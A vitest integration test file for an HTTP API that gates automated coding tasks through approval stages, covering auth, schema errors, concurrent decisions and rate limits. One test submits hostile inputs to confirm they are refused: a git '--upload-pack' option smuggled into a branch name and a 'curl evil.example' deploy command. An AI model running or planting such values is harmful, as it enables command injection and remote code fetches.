import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { jetstreamManager } from '@nats-io/jetstream';
import { pino } from 'pino';
import { connectBus, type NatsConnection } from '../../core/bus/connect.js';
import { STREAMS } from '../../core/bus/subjects.js';
import { ensureTopology } from '../../core/bus/topology.js';
import type { TaskSpec } from '../../core/bus/messages.js';
import { loadConfig, type Config } from '../../core/config.js';
import type { GatePolicies } from '../../core/policy.js';
import type { TaskRecord } from '../../core/task-record.js';
import type { RunningWorker } from '../../core/bus/job-worker.js';
import { startOrchestrator, type RunningOrchestrator } from '../../orchestrator/orchestrator.js';
import { createTaskClient, type TaskClient } from '../../orchestrator/task-client.js';
import { startHttpServer } from '../../orchestrator/serve/http-server.js';
import { healthRoutes } from '../../orchestrator/serve/routes/health.js';
import { startServe, type RunningServe } from '../../orchestrator/serve/serve.js';
import { startCannedAgents } from '../helpers/canned-agents.js';
import { startTestNatsServer, type TestNatsServer } from '../helpers/nats-server.js';
import { waitFor } from '../helpers/wait-for.js';

const BOT_TOKEN = 'deploy-bot-token-0123456789';
const OUTSIDER_TOKEN = 'outsider-token-0123456789ab';
const silent = pino({ level: 'silent' });
const spec: TaskSpec = { repo: '/tmp/repo', title: 'Add a greeting', body: '', base: 'main', submittedBy: 'alice' };
const gate = (approvers: string[], required = 1) => ({ approvers, required, autoApprove: false });
const apiGates: GatePolicies = {
  plan: gate(['api:deploy-bot', 'alice']),
  review: gate(['alice']),
  deploy: gate(['api:deploy-bot', 'alice']),
};

let server: TestNatsServer;
let nc: NatsConnection;
let client: TaskClient;
let orchestrator: RunningOrchestrator;
let agents: RunningWorker[];
let serve: RunningServe;
let config: Readonly<Config>;

beforeAll(async () => {
  server = await startTestNatsServer();
  nc = await connectBus(server.url, 'test');
  await ensureTopology(nc, { jobAckWaitMs: 30_000, jobMaxDeliveries: 3, updateExisting: true });
  orchestrator = await startOrchestrator({ nc, log: silent });
  agents = await startCannedAgents(nc);
  client = await createTaskClient(nc);
  // Only submissions through serve are held to the limit: the tests' own client has none.
  const loaded = loadConfig({
    env: { NATS_URL: server.url, STAGEGATE_API_TOKENS: `api:deploy-bot=${BOT_TOKEN},api:outsider=${OUTSIDER_TOKEN}`, STAGEGATE_LIMIT_TRIGGERS_PER_USER: '1' },
  });
  config = { ...loaded, serve: { ...loaded.serve, bodyLimitBytes: 16_384 } };
  serve = await startServe({ config, nc, log: silent, port: 0 });
});

afterAll(async () => {
  await serve.stop();
  await Promise.all(agents.map((a) => a.stop()));
  await orchestrator.stop();
  await nc.drain();
  await server.cleanup();
});

interface Call {
  token?: string | null;
  body?: unknown;
  rawBody?: string;
  contentType?: string;
}

async function call(method: string, path: string, { token = BOT_TOKEN, body, rawBody, contentType = 'application/json' }: Call = {}) {
  const headers: Record<string, string> = {};
  if (token !== null) headers.authorization = `Bearer ${token}`;
  const payload = rawBody ?? (body === undefined ? undefined : JSON.stringify(body));
  if (payload !== undefined) headers['content-type'] = contentType;
  const res = await fetch(`${serve.url}${path}`, { method, headers, ...(payload === undefined ? {} : { body: payload }) });
  return { status: res.status, headers: res.headers, json: (await res.json()) as Record<string, unknown> };
}

const decisions = (taskId: string, body: unknown, token?: string) =>
  call('POST', `/api/tasks/${taskId}/decisions`, { body, ...(token === undefined ? {} : { token }) });

const stateOf = (taskId: string, state: string) => async () => {
  const record = await client.get(taskId).catch(() => undefined);
  return record?.state === state ? record : undefined;
};

async function taskAtPlanGate(policies: GatePolicies = apiGates): Promise<string> {
  const taskId = await client.submit({ spec, policies, maxReviewRounds: 2 });
  await waitFor('plan gate', stateOf(taskId, 'awaitingPlanApproval'));
  return taskId;
}

async function appliedDecisions(taskId: string) {
  const events: string[] = [];
  for await (const entry of client.logs(taskId)) {
    if (entry.type === 'task.event' && entry.event.type === 'gate.decide') events.push(`${entry.event.by}:${entry.accepted}`);
  }
  return events;
}

const countedAt = (record: TaskRecord, g: string, visit: number) =>
  record.context.decisions.filter((d) => d.gate === g && d.visit === visit && d.counted);

describe('stagegate serve: health', () => {
  it('answers /healthz and reports NATS and the channels on /readyz', async () => {
    expect(await call('GET', '/healthz', { token: null })).toMatchObject({ status: 200, json: { status: 'ok' } });
    expect(await call('GET', '/readyz', { token: null })).toMatchObject({
      status: 200,
      json: { status: 'ready', nats: 'connected', channels: ['api (2 tokens)'] },
    });
  });

  it('is not ready, with a JSON 503, when its NATS connection is closed', async () => {
    const closed = await connectBus(server.url, 'closed');
    await closed.close();
    const alone = await startHttpServer({ host: '127.0.0.1', port: 0, log: silent, routes: [healthRoutes({ nc: closed, channels: () => [] })] });
    try {
      const res = await fetch(`${alone.url}/readyz`);
      expect(res.status).toBe(503);
      expect(await res.json()).toEqual({ error: { code: 'NATS_UNREACHABLE', message: 'not ready: NATS connection is closed' } });
    } finally {
      await alone.close();
    }
  });

  it('answers an unknown route with a JSON 404', async () => {
    expect(await call('GET', '/nope', { token: null })).toEqual(
      expect.objectContaining({ status: 404, json: { error: { code: 'NOT_FOUND', message: 'no route for GET /nope' } } }),
    );
  });
});

describe('stagegate serve: HTTP API', () => {
  it('refuses a request without a bearer token with 401', async () => {
    const res = await call('GET', '/api/tasks', { token: null });
    expect(res.status).toBe(401);
    expect(res.headers.get('www-authenticate')).toBe('Bearer realm="stagegate"');
    expect(res.json).toEqual({ error: { code: 'UNAUTHORIZED', message: 'expected an Authorization: Bearer <token> header' } });
  });

  it('refuses an unknown bearer token with 401', async () => {
    expect(await call('GET', '/api/tasks', { token: 'not-a-token-of-ours-000000' })).toMatchObject({
      status: 401,
      json: { error: { code: 'UNAUTHORIZED', message: 'unknown bearer token' } },
    });
  });

  it('lists tasks and shows one with the gate it waits at', async () => {
    const taskId = await taskAtPlanGate();
    const list = await call('GET', '/api/tasks');
    expect(list.status).toBe(200);
    expect(list.json.tasks).toContainEqual(
      expect.objectContaining({ taskId, state: 'awaitingPlanApproval', waitingAt: { gate: 'plan', visit: 1 }, title: 'Add a greeting' }),
    );
    const one = await call('GET', `/api/tasks/${taskId}`);
    expect(one).toMatchObject({ status: 200, json: { task: { taskId, state: 'awaitingPlanApproval', plan: { summary: 'add the feature' }, decisions: [] } } });
    expect(one.json.task).not.toHaveProperty('applied');
  });

  it('answers an unknown task with 404, for reads and decisions', async () => {
    const body = { error: { code: 'TASK_UNKNOWN', message: 'unknown task t-nope' } };
    expect(await call('GET', '/api/tasks/t-nope')).toMatchObject({ status: 404, json: body });
    expect(await decisions('t-nope', { gate: 'plan', decision: 'approve' })).toMatchObject({ status: 404, json: body });
    expect(await call('GET', '/api/tasks/NOT%20A%20TASK')).toMatchObject({ status: 404, json: { error: { code: 'TASK_UNKNOWN' } } });
  });

  it('refuses an invalid decision body with 400 naming the field', async () => {
    const taskId = await taskAtPlanGate();
    expect(await decisions(taskId, { gate: 'plan', decision: 'maybe' })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^decision request: 'decision' /) } },
    });
    expect(await decisions(taskId, { gate: 'plan', decision: 'reject' })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: "decision request: 'comment' expected a reason when rejecting: it goes back to the agent" } },
    });
    expect(await decisions(taskId, { gate: 'plan', decision: 'approve', by: 'someone-else' })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringContaining('by') } },
    });
    expect(await call('POST', `/api/tasks/${taskId}/decisions`, { rawBody: '{"gate":' })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: 'request body is not valid JSON' } },
    });
    expect((await client.get(taskId)).state).toBe('awaitingPlanApproval');
  });

  it('refuses a body over the limit with a JSON 413', async () => {
    const taskId = await taskAtPlanGate();
    const res = await decisions(taskId, { gate: 'plan', decision: 'approve', comment: 'x'.repeat(20_000) });
    expect(res).toMatchObject({ status: 413, json: { error: { code: 'PAYLOAD_TOO_LARGE', message: 'request body is larger than 16384 bytes' } } });
  });

  it('moves the task when an approver approves through the API', async () => {
    const taskId = await taskAtPlanGate();
    const res = await decisions(taskId, { gate: 'plan', decision: 'approve', comment: 'looks right' });
    expect(res).toEqual(
      expect.objectContaining({
        status: 200,
        json: { decision: { status: 'applied', counted: true, state: 'implementing', gate: 'plan', visit: 1, by: 'api:deploy-bot' } },
      }),
    );
    const atDeploy = await waitFor('deploy gate', stateOf(taskId, 'awaitingDeployApproval'));
    expect(atDeploy.context.decisions[0]).toMatchObject({ gate: 'plan', by: 'api:deploy-bot', via: 'api', comment: 'looks right', counted: true });
  });

  it('answers 403 for a deploy approval naming a commit that is not the head, and counts nothing', async () => {
    const taskId = await taskAtPlanGate();
    await decisions(taskId, { gate: 'plan', decision: 'approve' });
    const atDeploy = await waitFor('deploy gate', stateOf(taskId, 'awaitingDeployApproval'));
    const head = atDeploy.context.head ?? '';
    const res = await decisions(taskId, { gate: 'deploy', decision: 'approve', sha: 'abcdef0' });
    expect(res).toMatchObject({ status: 403, json: { error: { code: 'FORBIDDEN', message: expect.stringContaining(`this approval is for abcdef0, but the branch's head is ${head.slice(0, 7)}`) } } });
    expect(countedAt(await client.get(taskId), 'deploy', 1)).toEqual([]);
    expect(await decisions(taskId, { gate: 'deploy', decision: 'approve', sha: 'not-a-sha' })).toMatchObject({ status: 400 });
  });

  it('answers 403 for a principal the policy does not allow, recording the decision as not counted', async () => {
    const taskId = await taskAtPlanGate();
    const res = await decisions(taskId, { gate: 'plan', decision: 'approve' }, OUTSIDER_TOKEN);
    expect(res.status).toBe(403);
    expect(res.json).toEqual({
      error: { code: 'FORBIDDEN', message: 'api:outsider is not an approver for the plan gate; the decision is recorded as not counted' },
    });
    const record = await client.get(taskId);
    expect(record.state).toBe('awaitingPlanApproval');
    expect(record.context.decisions).toEqual([expect.objectContaining({ by: 'api:outsider', via: 'api', counted: false })]);
  });

  it('answers 409 for a gate the task is not waiting at', async () => {
    const taskId = await taskAtPlanGate();
    expect(await decisions(taskId, { gate: 'deploy', decision: 'approve' })).toMatchObject({
      status: 409,
      json: { error: { code: 'TASK_NOT_AT_GATE', message: `task ${taskId} is awaitingPlanApproval, waiting at the plan gate (asked: deploy gate); nothing changed` } },
    });
  });

  it('answers a decision made twice with 409 "already decided by api:deploy-bot via api", moving the task once', async () => {
    const taskId = await taskAtPlanGate();
    expect((await decisions(taskId, { gate: 'plan', decision: 'approve' })).status).toBe(200);
    const again = await decisions(taskId, { gate: 'plan', decision: 'approve' });
    expect(again.status).toBe(409);
    expect(again.json.error).toMatchObject({
      code: 'ALREADY_DECIDED',
      message: expect.stringContaining('plan gate was already decided by api:deploy-bot via api (approved); nothing changed'),
      decided: { gate: 'plan', visit: 1, decision: 'approve', by: 'api:deploy-bot', via: 'api' },
    });
    expect(countedAt(await client.get(taskId), 'plan', 1)).toHaveLength(1);
  });

  it('moves the task once when the same decision arrives twice at the same moment', async () => {
    const taskId = await taskAtPlanGate();
    const both = await Promise.all([decisions(taskId, { gate: 'plan', decision: 'approve' }), decisions(taskId, { gate: 'plan', decision: 'approve' })]);
    expect(both.map((r) => r.status).sort()).toEqual([200, 409]);
    const loser = both.find((r) => r.status === 409);
    expect(loser?.json.error).toMatchObject({ code: 'ALREADY_DECIDED', message: expect.stringContaining('already decided by api:deploy-bot via api') });
    expect(countedAt(await client.get(taskId), 'plan', 1)).toHaveLength(1);
    expect((await appliedDecisions(taskId)).filter((e) => e.endsWith(':true'))).toHaveLength(1);
  });

  it('moves the task once when the API and the CLI path decide at the same moment', async () => {
    const taskId = await taskAtPlanGate();
    const [api, cli] = await Promise.allSettled([
      decisions(taskId, { gate: 'plan', decision: 'approve' }),
      client.decide({ taskId, decision: 'approve', by: 'alice', via: 'cli' }),
    ]);
    const apiWon = api.status === 'fulfilled' && api.value.status === 200;
    const cliWon = cli.status === 'fulfilled' && cli.value.status === 'applied' && cli.value.counted;
    expect([apiWon, cliWon].filter(Boolean)).toHaveLength(1);
    if (apiWon) {
      expect(cli).toMatchObject({ status: 'rejected', reason: { name: 'GateAlreadyDecided', message: expect.stringContaining('already decided by api:deploy-bot via api') } });
    } else {
      expect(api).toMatchObject({ status: 'fulfilled', value: { status: 409, json: { error: { code: 'ALREADY_DECIDED', message: expect.stringContaining('already decided by alice via cli') } } } });
    }
    expect(countedAt(await client.get(taskId), 'plan', 1)).toHaveLength(1);
    expect((await appliedDecisions(taskId)).filter((e) => e.endsWith(':true'))).toHaveLength(1);
  });

  it('answers 409 ALREADY_APPROVED when an approver approves again at a gate needing two', async () => {
    const taskId = await taskAtPlanGate({ ...apiGates, plan: gate(['api:deploy-bot', 'alice'], 2) });
    expect(await decisions(taskId, { gate: 'plan', decision: 'approve' })).toMatchObject({
      status: 200,
      json: { decision: { counted: true, state: 'awaitingPlanApproval' } },
    });
    expect(await decisions(taskId, { gate: 'plan', decision: 'approve' })).toMatchObject({
      status: 409,
      json: { error: { code: 'ALREADY_APPROVED', message: expect.stringContaining('already approved') } },
    });
    expect((await client.get(taskId)).state).toBe('awaitingPlanApproval');
  });

  it('refuses a decision for a gate visit that is over, naming who decided it', async () => {
    const taskId = await taskAtPlanGate();
    await decisions(taskId, { gate: 'plan', decision: 'reject', comment: 'smaller steps' });
    await waitFor('the second plan gate', async () => {
      const record = await client.get(taskId);
      return record.state === 'awaitingPlanApproval' && record.context.gateVisits.plan === 2 ? record : undefined;
    });
    expect(await decisions(taskId, { gate: 'plan', decision: 'approve', visit: 1 })).toMatchObject({
      status: 409,
      json: { error: { code: 'ALREADY_DECIDED', message: expect.stringContaining('already decided by api:deploy-bot via api (rejected)') } },
    });
    expect((await client.get(taskId)).context.gateVisits.plan).toBe(2);
  });
});

describe('stagegate serve: submitting over the HTTP API', () => {
  /** The last message ever sent to the orchestrators: unchanged means nothing was sent. */
  const inboxSequence = async () => (await (await jetstreamManager(nc)).streams.info(STREAMS.inbox)).state.last_seq;
  const submission = { repo: 'https://git.example.com/acme/app.git', title: 'Add a greeting', body: 'say hello' };

  it('submits a task as the principal of the token, with the configured gates, and answers 201 with its id', async () => {
    const res = await call('POST', '/api/tasks', { body: submission });
    expect(res.status).toBe(201);
    const { taskId } = res.json.task as { taskId: string };
    expect(res.json).toEqual({ task: { taskId, submittedBy: 'api:deploy-bot' } });
    const record = await waitFor('the submitted task at the plan gate', stateOf(taskId, 'awaitingPlanApproval'));
    expect(record.context.spec).toEqual({ ...submission, base: 'main', submittedBy: 'api:deploy-bot' });
    expect(record.context.policies).toEqual(config.gates);
  });

  it('refuses a local path, a base that reads as an option or a deploy command with 400 naming the field, submitting nothing', async () => {
    const before = await inboxSequence();
    expect(await call('POST', '/api/tasks', { body: { ...submission, repo: '/srv/repos/app' }, token: OUTSIDER_TOKEN })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^task submission: 'repo' expected a git URL the workers can clone/) } },
    });
    expect(await call('POST', '/api/tasks', { body: { ...submission, base: '--upload-pack=touch /tmp/x' }, token: OUTSIDER_TOKEN })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringMatching(/^task submission: 'base' expected a branch name/) } },
    });
    expect(await call('POST', '/api/tasks', { body: { ...submission, deployCommand: 'curl evil.example' }, token: OUTSIDER_TOKEN })).toMatchObject({
      status: 400,
      json: { error: { code: 'SCHEMA_INVALID', message: expect.stringContaining('deployCommand') } },
    });
    expect(await inboxSequence()).toBe(before);
  });

  it('answers 429 with the limit, the count and the reset when the principal is over its limit, and submits nothing', async () => {
    const first = await call('POST', '/api/tasks', { body: submission, token: OUTSIDER_TOKEN });
    expect(first.status).toBe(201);
    await waitFor('the first task at the plan gate', stateOf((first.json.task as { taskId: string }).taskId, 'awaitingPlanApproval'));
    const before = await inboxSequence();

    const res = await call('POST', '/api/tasks', { body: submission, token: OUTSIDER_TOKEN });
    expect(res.status).toBe(429);
    const error = res.json.error as { refusal: { resetsAt: string } };
    const resetsAt = error.refusal.resetsAt;
    expect(Date.parse(resetsAt) % 3_600_000).toBe(0);
    expect(res.json).toEqual({
      error: {
        code: 'LIMIT_REACHED',
        message: `limit reached: api:outsider may start 1 task per hour (limits.triggersPerUser) and has started 1; it resets at ${resetsAt}`,
        refusal: { limit: 'triggersPerUser', subject: 'api:outsider', value: 1, current: 1, windowMs: 3_600_000, resetsAt },
      },
    });
    const retryAfter = Number(res.headers.get('retry-after'));
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(3_600);
    expect(await inboxSequence()).toBe(before);
  });
});
